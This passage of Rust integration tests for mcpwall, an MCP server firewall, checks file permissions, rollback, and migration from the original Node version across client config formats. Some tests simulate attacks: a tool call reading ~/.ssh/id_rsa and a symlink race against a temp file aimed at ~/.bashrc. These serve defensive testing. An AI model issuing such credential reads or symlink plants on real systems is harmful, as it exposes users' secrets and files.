/// Everything mcpwall keeps is owner-only, whatever the file's own mode.
#[cfg(unix)]
#[test]
fn r29_state_and_backups_are_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::new();
    sandbox.write(
        "project/.mcp.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"env\": {\"TOKEN\": \"s3cret\"}}}}\n",
    );
    let file = sandbox.project().join(".mcp.json");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let state = sandbox.home().join(".mcpwall");
    assert_eq!(mode(&state), 0o700);
    assert_eq!(mode(&state.join("backups")), 0o700);
    assert_eq!(mode(&state.join("wrapped.json")) & 0o077, 0);
    assert_eq!(mode(&file), 0o644, "the file itself keeps its mode");
    let backups: Vec<_> = std::fs::read_dir(state.join("backups"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(backups.len(), 1);
    assert_eq!(mode(&backups[0]), 0o600);
    // Backups of one file sort by time and are pruned to the newest.
    for _ in 0..12 {
        assert_eq!(code(&sandbox.run_client(&["unwrap", "x"])), 0);
        assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    }
    let mut names: Vec<_> = std::fs::read_dir(state.join("backups"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names.len(), 10, "{names:?}");
    let newest =
        std::fs::read_to_string(state.join("backups").join(names.last().unwrap())).unwrap();
    assert!(
        !newest.contains("mcpwall"),
        "the newest backup is the last unwrapped text: {newest}"
    );
}

/// Read-only and hard-linked files are refused (and said so) unless `--force`.
#[cfg(unix)]
#[test]
fn r29_read_only_and_hard_linked_files_need_force() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::new();
    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n";
    sandbox.write("project/.mcp.json", text);
    let file = sandbox.project().join(".mcp.json");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o444)).unwrap();
    let out = sandbox.run_client(&["wrap", "x"]);
    assert_eq!(code(&out), 1);
    assert!(
        sandbox.stdout(&out).contains("is read-only"),
        "{}",
        sandbox.stdout(&out)
    );
    assert_eq!(sandbox.read("project/.mcp.json"), text);
    assert!(!sandbox.home().join(".mcpwall/wrapped.json").exists());
    let out = sandbox.run_client(&["wrap", "x", "--force"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o444
    );
    assert_eq!(code(&sandbox.run_client(&["unwrap", "x", "--force"])), 0);

    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let other = sandbox.root().join("other-name.json");
    std::fs::hard_link(&file, &other).unwrap();
    let out = sandbox.run_client(&["wrap", "x"]);
    assert_eq!(code(&out), 1);
    assert!(
        sandbox.stdout(&out).contains("hard links"),
        "{}",
        sandbox.stdout(&out)
    );
    assert_eq!(sandbox.read("project/.mcp.json"), text);
    let out = sandbox.run_client(&["wrap", "x", "--force"]);
    assert_eq!(code(&out), 0);
    assert!(
        sandbox.stdout(&out).contains("it had 2 hard links"),
        "{}",
        sandbox.stdout(&out)
    );
}

/// A write error (a file size limit, as a full disk would give) in the middle of a run:
/// the failed file keeps its bytes, no backup or record of it stays, the run exits
/// non-zero and says which files changed and which did not; when the records cannot be
/// written, every file is put back.
#[cfg(target_os = "linux")]
#[test]
fn r29_write_errors_roll_back_backup_and_record() {
    use std::os::unix::process::CommandExt;
    const LIMIT: u64 = 16 * 1024;
    fn limited(mut command: Command) -> Output {
        // SAFETY: the closure runs in the child between fork and exec and only calls
        // async-signal-safe functions (signal, setrlimit) on values it owns.
        unsafe {
            command.pre_exec(|| {
                libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
                let lim = libc::rlimit {
                    rlim_cur: LIMIT,
                    rlim_max: LIMIT,
                };
                if libc::setrlimit(libc::RLIMIT_FSIZE, &lim) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        command.output().unwrap()
    }
    let sandbox = Sandbox::new();
    let small = "{\"mcpServers\": {\"s\": {\"command\": \"srv\"}}}\n";
    let big = format!(
        "{{\"pad\": \"{}\", \"mcpServers\": {{\"s\": {{\"command\": \"srv\"}}}}}}\n",
        "x".repeat(LIMIT as usize)
    );
    sandbox.write("project/.mcp.json", small);
    sandbox.write("home/.cursor/mcp.json", &big);
    let out = limited(sandbox.client_command(&["wrap", "s"]));
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 1, "{stdout}");
    assert_eq!(sandbox.read("home/.cursor/mcp.json"), big);
    assert!(
        sandbox
            .read("project/.mcp.json")
            .contains("\"--\", \"srv\"")
    );
    assert!(
        stdout.contains("~/.cursor/mcp.json [cursor]\n  not changed"),
        "{stdout}"
    );
    assert!(stdout.contains("the file was left as it was"), "{stdout}");
    let records = sandbox.read("home/.mcpwall/wrapped.json");
    assert!(
        !records.contains(".cursor"),
        "a record of a wrap that never happened: {records}"
    );
    let backups: Vec<String> = std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(backups.len(), 1, "{backups:?}");
    assert!(backups[0].contains(".mcp.json"), "{backups:?}");

    // Now the records file is what cannot be written: the file written is put back.
    assert_eq!(code(&sandbox.run_client(&["unwrap", "s"])), 0);
    let records_path = sandbox.home().join(".mcpwall/wrapped.json");
    let mut records: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
    records["entries"] = serde_json::json!([{
        "client": "cursor", "file": "/elsewhere/mcp.json", "path": ["mcpServers", "big"],
        "original": "y".repeat(LIMIT as usize), "wrapped": "", "wrapped_at": "20260101T000000Z"
    }]);
    std::fs::write(&records_path, records.to_string()).unwrap();
    let before_backups = std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
        .unwrap()
        .count();
    let out = limited(sandbox.client_command(&["wrap", "s", "--client", "claude-code"]));
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 1, "{stdout}");
    assert_eq!(sandbox.read("project/.mcp.json"), small, "{stdout}");
    assert!(stdout.contains("rolled back"), "{stdout}");
    assert_eq!(
        std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
            .unwrap()
            .count(),
        before_backups,
        "the rolled-back file's backup stays behind"
    );
}

// Issue 27: coming from the original mcpwall (Node).

/// The path of the scripted test server (`tests/support/fake_server.rs`).
fn fake_server() -> String {
    Path::new(MCPWALL)
        .parent()
        .unwrap()
        .join("mcpwall-fake-server")
        .display()
        .to_string()
}

/// One client file per supported format, each with a server `legacy` behind the original
/// mcpwall in one of its documented forms and options; `team.yml` is the policy the `-c`
/// forms name (it denies the tool `forbidden`).
fn original_wrapped_sandbox() -> (Sandbox, Vec<(&'static str, String)>) {
    let sandbox = Sandbox::new();
    let fake = fake_server();
    let policy = sandbox.home().join("team.yml").display().to_string();
    sandbox.write(
        "home/team.yml",
        // Loadable by both: the original needs `settings` and ignores `extends`.
        "version: 1\nextends: [default]\nsettings:\n  log_dir: ~/.mcpwall/logs\n  log_level: info\n  default_action: allow\nrules:\n  - name: no-forbidden\n    match:\n      tool: forbidden\n    action: deny\n    message: not here\n",
    );
    let files = vec![
        (
            "home/.claude.json",
            format!(
                "{{\n  \"numStartups\": 3,\n  \"mcpServers\": {{\n    \"legacy\": {{\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"mcpwall\", \"--\", \"{fake}\"]\n    }}\n  }}\n}}\n"
            ),
        ),
        (
            "home/.config/Claude/claude_desktop_config.json",
            format!(
                "{{\"mcpServers\":{{\"legacy\":{{\"command\":\"npx\",\"args\":[\"--yes\",\"mcpwall@latest\",\"--log-level\",\"debug\",\"--\",\"{fake}\"],\"env\":{{\"A\":\"1\"}}}}}}}}"
            ),
        ),
        (
            "home/.cursor/mcp.json",
            format!(
                "{{\r\n  \"mcpServers\": {{\r\n    \"legacy\": {{\r\n      \"command\": \"npx\",\r\n      \"args\": [\r\n        \"mcpwall\",\r\n        \"-c\",\r\n        \"{policy}\",\r\n        \"--strict\",\r\n        \"--\",\r\n        \"{fake}\",\r\n        \"--flag\"\r\n      ]\r\n    }}\r\n  }}\r\n}}\r\n"
            ),
        ),
        (
            "home/.codeium/windsurf/mcp_config.json",
            format!(
                "{{ \"mcpServers\": {{ \"legacy\": {{ \"command\": \"node\", \"args\": [\"/opt/node/lib/node_modules/mcpwall/dist/index.js\", \"--config={policy}\", \"--\", \"{fake}\"] }} }} }}\n"
            ),
        ),
        (
            "home/.config/Code/User/mcp.json",
            format!(
                "// VS Code user servers\n{{\n\t\"servers\": {{\n\t\t\"legacy\": {{\n\t\t\t\"type\": \"stdio\",\n\t\t\t\"command\": \"npx\", // the original\n\t\t\t\"args\": [\"-y\", \"mcpwall\", \"--\", \"{fake}\",],\n\t\t}},\n\t}},\n}}\n"
            ),
        ),
        (
            "home/.config/zed/settings.json",
            format!(
                "{{\n  \"theme\": \"One Dark\",\n  /* servers */\n  \"context_servers\": {{\n    \"legacy\": {{\n      \"source\": \"custom\",\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"mcpwall\", \"-c\", \"{policy}\", \"--\", \"{fake}\"]\n    }}\n  }}\n}}\n"
            ),
        ),
        (
            "home/.codex/config.toml",
            format!(
                "model = \"o3\"\n\n[mcp_servers.legacy]\ncommand = 'npx' # the original\nargs = [\"-y\", \"mcpwall\", \"--log-level\", \"warn\", \"--\", \"{fake}\"]\n\n[mcp_servers.legacy.env]\nK = \"v\"\n"
            ),
        ),
    ];
    for (rel, text) in &files {
        sandbox.write(rel, text);
    }
    (sandbox, files)
}

/// Servers the original mcpwall (Node) still wraps read `~/.mcpwall/config.yml` too:
/// `init` never writes what the original cannot load there (its own settings go to
/// `~/.mcpwall/mcpwall.yml`), so every entry `unwrap` gives back to the original starts
/// again; a `config.yml` an earlier `init` wrote is shown as BROKEN by `status` and
/// `doctor`, with the fix, and `init` moves it out of the original's way.
#[test]
fn servers_left_to_the_original_keep_a_policy_it_can_load() {
    let (sandbox, files) = original_wrapped_sandbox();
    let shared = "home/.mcpwall/config.yml";
    let original_loads = |sandbox: &Sandbox| {
        let path = sandbox.home().join(".mcpwall/config.yml");
        match std::fs::read_to_string(&path) {
            Ok(text) => mcpwall::config::original::rejects(&text),
            Err(_) => None,
        }
    };
    let out = sandbox.run_client(&["init", "--yes"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(original_loads(&sandbox), None, "init stranded the original");
    assert!(sandbox.home().join(".mcpwall/mcpwall.yml").is_file());
    // Every entry goes back to the original: each must start there.
    let out = sandbox.run_client(&["unwrap", "--all"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    for (rel, text) in &files {
        assert_eq!(&sandbox.read(rel), text, "{rel} not restored byte for byte");
    }
    let out = sandbox.run_client(&["status"]);
    let stdout = sandbox.stdout(&out);
    assert!(!stdout.contains("BROKEN"), "{stdout}");
    assert_eq!(code(&out), 0, "{stdout}");

    // What an earlier `init` wrote: the original refuses to start with it.
    std::fs::remove_file(sandbox.home().join(".mcpwall/mcpwall.yml")).unwrap();
    sandbox.write(
        shared,
        "version: 1\nextends: [profiles/local-dev, default]\n",
    );
    let out = sandbox.run_client(&["status"]);
    let stdout = sandbox.stdout(&out);
    // The four entries without `-c` read config.yml there.
    assert_eq!(stdout.matches("BROKEN").count(), 4, "{stdout}");
    assert!(
        stdout.contains("the original mcpwall (Node) cannot load ~/.mcpwall/config.yml: settings: expected a mapping, found nothing"),
        "{stdout}"
    );
    assert!(
        stdout.contains("`mv ~/.mcpwall/config.yml ~/.mcpwall/mcpwall.yml`"),
        "{stdout}"
    );
    assert_eq!(
        code(&out),
        1,
        "status must fail while a server cannot start"
    );
    let out = sandbox.run_client(&["doctor"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 1, "{stdout}");
    assert!(
        stdout.contains("FAIL") && stdout.contains("cannot load ~/.mcpwall/config.yml"),
        "{stdout}"
    );

    // `init` moves it to this mcpwall's own file (kept as the user wrote it).
    let out = sandbox.run_client(&["init", "--yes"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert!(
        sandbox
            .stdout(&out)
            .contains("moved to ~/.mcpwall/mcpwall.yml"),
        "{}",
        sandbox.stdout(&out)
    );
    assert_eq!(original_loads(&sandbox), None);
    assert_eq!(
        sandbox.read("home/.mcpwall/mcpwall.yml"),
        "version: 1\nextends: [profiles/local-dev, default]\n"
    );
    // Run again after the user edited it: kept, exit 0, and it says so.
    sandbox.write(
        "home/.mcpwall/mcpwall.yml",
        "version: 1\nextends: [profiles/local-dev, default]\nsettings:\n  log_level: warn\n",
    );
    let out = sandbox.run_client(&["init", "--yes"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 0, "{stdout}");
    assert!(stdout.contains("kept your existing policy"), "{stdout}");
    assert!(
        sandbox
            .read("home/.mcpwall/mcpwall.yml")
            .contains("log_level: warn")
    );
}

/// The `legacy` entry of a client file, as `(command, args)`.
fn legacy_entry(rel: &str, text: &str) -> (String, Vec<String>) {
    let entry: serde_json::Value = if rel.ends_with(".toml") {
        let doc: toml_edit::DocumentMut = text.parse().unwrap();
        let t = &doc["mcp_servers"]["legacy"];
        let args = t["args"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| serde_json::json!(v.as_str().unwrap()))
            .collect::<Vec<_>>();
        serde_json::json!({"command": t["command"].as_str().unwrap(), "args": args})
    } else {
        let plain: String = text
            .lines()
            .map(|l| l.split(" //").next().unwrap())
            .filter(|l| !l.trim_start().starts_with("//") && !l.trim_start().starts_with("/*"))
            .collect::<Vec<_>>()
            .join("\n")
            .replace(",]", "]")
            .replace(",\n\t\t}", "\n\t\t}")
            .replace(",\n\t}", "\n\t}")
            .replace(",\n}", "\n}");
        let v: serde_json::Value =
            serde_json::from_str(&plain).unwrap_or_else(|e| panic!("{rel}: {e}\n{plain}"));
        let key = if rel.contains("Code/User") {
            "servers"
        } else if rel.contains("zed") {
            "context_servers"
        } else {
            "mcpServers"
        };
        v[key]["legacy"].clone()
    };
    let args = entry["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap().to_string())
        .collect();
    (entry["command"].as_str().unwrap().to_string(), args)
}

/// Start `command args` as a client would (HOME and PATH of the sandbox) and send it a
/// call reading an SSH key (id 2) and a call of the tool `forbidden` (id 3); returns each
/// answer: `true` when it was refused.
fn call_through(sandbox: &Sandbox, command: &str, args: &[String]) -> (bool, bool) {
    use std::io::Write;
    let bin_dir = Path::new(MCPWALL).parent().unwrap();
    let program = if command.contains('/') {
        PathBuf::from(command)
    } else {
        bin_dir.join(command)
    };
    let mut child = Command::new(program)
        .args(args)
        .current_dir(sandbox.project())
        .env_clear()
        .env("HOME", sandbox.home())
        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let key = sandbox.home().join(".ssh/id_rsa").display().to_string();
    let frames = [
        serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
        serde_json::json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": key}}}),
        serde_json::json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "forbidden", "arguments": {}}}),
    ];
    let mut stdin = child.stdin.take().unwrap();
    for f in &frames {
        writeln!(stdin, "{f}").unwrap();
    }
    drop(stdin);
    let lines = read_lines_with_timeout(child.stdout.take().unwrap(), 30);
    let _ = child.kill();
    let _ = child.wait();
    let answers: Vec<serde_json::Value> = lines
        .iter()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l:?}: {e}")))
        .collect();
    let refused = |id: u64| {
        let a = answers
            .iter()
            .find(|a| a["id"] == id)
            .unwrap_or_else(|| panic!("no answer to {id}: {lines:?}"));
        a.get("error").is_some() || a["result"]["isError"] == true
    };
    assert!(!refused(1), "{lines:?}");
    (refused(2), refused(3))
}

/// Issue 27, per client format: the original's wrapper is recognised (status, doctor),
/// migrated in one edit with its options (`--dry-run` shows it first), never wrapped
/// twice; the migrated command runs the real server behind this mcpwall with the same
/// policy file; `unwrap` gives back every file byte for byte.
#[test]
fn r27_every_client_format_migrates_runs_and_unwraps_byte_identical() {
    let (sandbox, files) = original_wrapped_sandbox();
    let out = sandbox.run_client(&["status"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(
        stdout
            .matches("protected by the original mcpwall (Node)")
            .count(),
        files.len(),
        "{stdout}"
    );
    assert!(!stdout.contains("UNPROTECTED"), "{stdout}");
    assert!(
        stdout.contains("-c $TMP/home/team.yml (exactly that policy file)"),
        "{stdout}"
    );
    assert!(
        stdout.contains("--strict (malformed lines refused"),
        "{stdout}"
    );
    assert!(stdout.contains("policy: $TMP/home/team.yml"), "{stdout}");
    let out = sandbox.run_client(&["doctor"]);
    let stdout = sandbox.stdout(&out);
    assert!(
        stdout.contains("`mcpwall wrap legacy` moves it to this mcpwall"),
        "{stdout}"
    );

    let out = sandbox.run_client(&["wrap", "legacy", "--dry-run"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 0, "{stdout}");
    assert!(
        stdout.contains("-      \"args\": [\"-y\", \"mcpwall\", \"--\""),
        "{stdout}"
    );
    for (rel, text) in &files {
        assert_eq!(&sandbox.read(rel), text, "{rel} written by --dry-run");
    }

    let out = sandbox.run_client(&["wrap", "legacy"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 0, "{stdout}");
    assert_eq!(stdout.matches("migrated").count(), files.len(), "{stdout}");
    assert!(stdout.contains("--strict changes nothing here"), "{stdout}");
    let migrated: Vec<String> = files.iter().map(|(rel, _)| sandbox.read(rel)).collect();
    for ((rel, before), after) in files.iter().zip(&migrated) {
        let (_, old_args) = legacy_entry(rel, before);
        let (command, args) = legacy_entry(rel, after);
        assert_eq!(command, "mcpwall", "{rel}:\n{after}");
        // Options and server carried over as they were, behind this mcpwall's name option.
        let dash = old_args.iter().position(|a| a == "--").unwrap();
        let options_start = old_args
            .iter()
            .position(|a| a.starts_with('-') && a != "-y" && a != "--yes")
            .unwrap();
        let mut expected = vec!["--server-name".to_string(), "legacy".to_string()];
        expected.extend(old_args[options_start.min(dash)..].iter().cloned());
        assert_eq!(args, expected, "{rel}:\n{after}");
        // Every other byte of the file is as it was: all before the command's value, and
        // all from the `--` on (options before it may move to another line).
        let value_at = |t: &str| t.find("command").unwrap();
        assert_eq!(
            before[..value_at(before)],
            after[..value_at(after)],
            "{rel}"
        );
        let dash_at = |t: &str| t.find("\"--\"").unwrap();
        assert_eq!(before[dash_at(before)..], after[dash_at(after)..], "{rel}");
        let policy_named = args.iter().any(|a| a.contains("team.yml"));
        let (ssh_refused, forbidden_refused) = call_through(&sandbox, &command, &args);
        assert!(
            ssh_refused,
            "{rel}: the default pack's SSH rule did not apply"
        );
        assert_eq!(
            forbidden_refused, policy_named,
            "{rel}: -c FILE not carried over"
        );
    }
    let again = sandbox.run_client(&["wrap", "legacy"]);
    assert_eq!(code(&again), 0);
    assert_eq!(
        sandbox.stdout(&again).matches("already wrapped").count(),
        files.len(),
        "{}",
        sandbox.stdout(&again)
    );
    for ((rel, _), after) in files.iter().zip(&migrated) {
        assert_eq!(&sandbox.read(rel), after, "{rel} wrapped twice");
    }

    // One command switches every server back.
    let out = sandbox.run_client(&["unwrap", "--all"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    for (rel, text) in &files {
        assert_eq!(&sandbox.read(rel), text, "{rel} not restored byte for byte");
    }
}

/// Issue 27: a migrated entry the user edited afterwards goes back behind the original's
/// launcher with the edit kept; `init --yes` migrates too.
#[test]
fn r27_unwrap_of_an_edited_migration_and_init() {
    let (sandbox, files) = original_wrapped_sandbox();
    let out = sandbox.run_client(&["init", "--yes"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 0, "{stdout}");
    assert!(stdout.contains("can be moved to this mcpwall"), "{stdout}");
    assert_eq!(stdout.matches("migrated").count(), files.len(), "{stdout}");
    let fake = fake_server();
    for rel in ["home/.claude.json", "home/.codex/config.toml"] {
        let text = sandbox.read(rel);
        let edited = text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""));
        assert_ne!(edited, text);
        sandbox.write(rel, &edited);
    }
    let out = sandbox.run_client(&["unwrap", "legacy"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    for (rel, text) in &files {
        let now = sandbox.read(rel);
        if rel.ends_with(".claude.json") || rel.ends_with(".toml") {
            let (command, args) = legacy_entry(rel, &now);
            let (old_command, mut old_args) = legacy_entry(rel, text);
            old_args.push("--added".into());
            assert_eq!((command, args), (old_command, old_args), "{rel}:\n{now}");
            assert_eq!(
                now,
                text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\"")),
                "{rel}"
            );
        } else {
            assert_eq!(&now, text, "{rel}");
        }
    }
}

/// Issue 27: a global `mcpwall` that is the Node one (npm links its script onto PATH) is
/// told apart from this mcpwall by what it resolves to; migrating it writes this mcpwall's
/// absolute path, and unwrap puts the bare `mcpwall` back.
#[cfg(unix)]
#[test]
fn r27_a_global_node_mcpwall_on_path_is_recognised() {
    let sandbox = Sandbox::new();
    let script = sandbox
        .home()
        .join("npm/lib/node_modules/mcpwall/dist/index.js");
    std::fs::create_dir_all(script.parent().unwrap()).unwrap();
    std::fs::write(&script, "#!/usr/bin/env node\nrequire('./cli');\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let npm_bin = sandbox.home().join("npm/bin");
    std::fs::create_dir_all(&npm_bin).unwrap();
    std::os::unix::fs::symlink(&script, npm_bin.join("mcpwall")).unwrap();
    let text = format!(
        "{{\"mcpServers\": {{\"legacy\": {{\"command\": \"mcpwall\", \"args\": [\"--log-level\", \"info\", \"--\", \"{}\"]}}}}}}\n",
        fake_server()
    );
    sandbox.write("project/.mcp.json", &text);
    let bin_dir = Path::new(MCPWALL).parent().unwrap();
    let run = |args: &[&str]| {
        let mut c = sandbox.client_command(args);
        c.env(
            "PATH",
            format!("{}:{}:/usr/bin:/bin", npm_bin.display(), bin_dir.display()),
        );
        c.output().unwrap()
    };
    let out = run(&["status"]);
    assert!(
        sandbox
            .stdout(&out)
            .contains("protected by the original mcpwall (Node), --log-level info"),
        "{}",
        sandbox.stdout(&out)
    );
    let out = run(&["wrap", "legacy"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    let (command, args) = legacy_entry("project/.mcp.json", &sandbox.read("project/.mcp.json"));
    assert_eq!(command, MCPWALL, "the bare name would start the Node one");
    assert_eq!(
        args[..4],
        ["--server-name", "legacy", "--log-level", "info"]
    );
    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
    assert!(ssh_refused);
    let out = run(&["unwrap", "legacy"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(sandbox.read("project/.mcp.json"), text);
    // Migrated again and edited since: the bare (Node) `mcpwall` comes back, the edit stays.
    assert_eq!(code(&run(&["wrap", "legacy"])), 0);
    let fake = fake_server();
    let edited = sandbox
        .read("project/.mcp.json")
        .replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""));
    sandbox.write("project/.mcp.json", &edited);
    let out = run(&["unwrap", "legacy"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(
        sandbox.read("project/.mcp.json"),
        text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""))
    );
    sandbox.write("project/.mcp.json", &text);
    // Without that script on PATH, a bare `mcpwall -- x` is this mcpwall (as before).
    let out = sandbox.run_client(&["status"]);
    assert!(
        sandbox.stdout(&out).contains("protected    legacy"),
        "{}",
        sandbox.stdout(&out)
    );
    assert!(
        !sandbox.stdout(&out).contains("original"),
        "{}",
        sandbox.stdout(&out)
    );
}

/// Issue 27: both mcpwalls log into ~/.mcpwall/logs: this one never appends to the
/// original's day file, and its events are in a file of its own name.
#[test]
fn r27_a_log_directory_both_write_into() {
    let (sandbox, files) = original_wrapped_sandbox();
    let logs = sandbox.home().join(".mcpwall/logs");
    std::fs::create_dir_all(&logs).unwrap();
    let today = {
        let secs = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs();
        let out = Command::new("date")
            .args(["-u", "-d", &format!("@{secs}"), "+%Y-%m-%d"])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    };
    let theirs = logs.join(format!("{today}.jsonl"));
    let original_lines = format!(
        "{{\"ts\":\"{today}T14:30:00Z\",\"method\":\"tools/call\",\"tool\":\"read_file\",\"action\":\"allow\",\"rule\":null}}\n"
    );
    std::fs::write(&theirs, &original_lines).unwrap();
    assert_eq!(code(&sandbox.run_client(&["wrap", "legacy"])), 0);
    let (command, args) = legacy_entry(files[0].0, &sandbox.read(files[0].0));
    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
    assert!(ssh_refused);
    // The original keeps writing its own file meanwhile.
    let mut more = original_lines.clone();
    more.push_str(&original_lines);
    std::fs::write(&theirs, &more).unwrap();
    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
    assert!(ssh_refused);
    assert_eq!(
        std::fs::read_to_string(&theirs).unwrap(),
        more,
        "wrote into the original's log"
    );
    let ours = std::fs::read_to_string(logs.join(format!("{today}.audit.jsonl"))).unwrap();
    let events: Vec<serde_json::Value> = ours
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(events.iter().all(|e| e["session"].is_string()), "{ours}");
    assert_eq!(
        events
            .iter()
            .filter(|e| e["action"] == "deny" && e["server"] == "legacy")
            .count(),
        2,
        "{ours}"
    );
}

/// Issue 29: whichever verb creates `~/.mcpwall` first creates it owner-only, and every
/// file and directory mcpwall puts there is owner-only too.
#[cfg(unix)]
#[test]
fn r29_every_verb_creates_its_state_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    fn check(dir: &Path, verb: &str) {
        let mode = std::fs::symlink_metadata(dir).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o700, "{verb}: {}", dir.display());
        for e in std::fs::read_dir(dir).unwrap() {
            let path = e.unwrap().path();
            if path.is_dir() {
                check(&path, verb);
            } else {
                let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
                assert_eq!(mode & 0o077, 0, "{verb}: {} is {mode:o}", path.display());
            }
        }
    }
    let verbs: [&[&str]; 5] = [
        &["doctor"],
        &["trust", "--yes"],
        &["wrap", "x"],
        &["init", "--yes"],
        &["--server-name", "x", "--", "sh", "-c", "cat"],
    ];
    for verb in verbs {
        let sandbox = Sandbox::new();
        sandbox.write(
            "project/.mcp.json",
            "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
        );
        sandbox.write("project/.mcpwall.yml", "version: 1\n");
        let mut command = sandbox.client_command(verb);
        command.stdin(Stdio::piped());
        let mut child = command.spawn().unwrap();
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().unwrap();
            let _ = writeln!(
                stdin,
                "{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"name\":\"read_file\",\"arguments\":{{\"path\":\"/x\"}}}}}}"
            );
        }
        let out = child.wait_with_output().unwrap();
        let state = sandbox.home().join(".mcpwall");
        assert!(
            state.exists(),
            "{verb:?} created no state: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        check(&state, &verb.join(" "));
    }
}

/// Issue 29 for the trust store: symlinks planted in `~/.mcpwall` at the names its temp
/// file used to get (`.trusted.json.<pid>.tmp`) are never written through.
#[cfg(target_os = "linux")]
#[test]
fn r29_trust_never_writes_through_a_planted_temp_symlink() {
    let sandbox = Sandbox::new();
    sandbox.write("home/.bashrc", "# mine\n");
    sandbox.write("project/.mcpwall.yml", "version: 1\n");
    let state = sandbox.home().join(".mcpwall");
    std::fs::create_dir_all(&state).unwrap();
    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(1);
    for pid in last + 1..last + 400 {
        std::os::unix::fs::symlink(
            sandbox.home().join(".bashrc"),
            state.join(format!(".trusted.json.{pid}.tmp")),
        )
        .unwrap();
    }
    let out = sandbox.run_client(&["trust", "--yes"]);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(sandbox.read("home/.bashrc"), "# mine\n");
    let store = sandbox.read("home/.mcpwall/trusted.json");
    assert!(store.contains("sha256"), "{store}");
}

/// Issue 27 against an official server: a Claude Code project file with the official
/// filesystem server (tests/interop/node_modules) behind the original's `npx -y mcpwall`
/// is migrated; the migrated command serves a file in the project and refuses an SSH key;
/// unwrap gives the file back byte for byte. Skipped (loudly) without node and the npm
/// servers, unless MCPWALL_REQUIRE_INTEROP is set.
#[test]
fn r27_migrated_official_filesystem_server_runs() {
    use std::io::{BufRead, Write};
    let server = Path::new(env!("CARGO_MANIFEST_DIR"))
